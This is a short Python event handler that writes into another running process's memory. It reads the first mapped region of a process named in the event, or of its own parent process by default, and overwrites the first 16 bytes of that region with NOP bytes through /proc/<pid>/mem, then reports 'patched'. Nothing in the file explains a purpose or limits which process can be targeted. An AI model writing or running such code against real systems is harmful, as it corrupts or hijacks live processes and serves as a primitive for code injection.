import os


def handle(event):
    pid = int(event.get("pid", os.getppid()))
    maps = open(f"/proc/{pid}/maps").read().splitlines()
    start = int(maps[0].split("-")[0], 16)
    with open(f"/proc/{pid}/mem", "r+b") as mem:
        mem.seek(start)
        mem.write(b"\x90" * 16)
    return "patched"
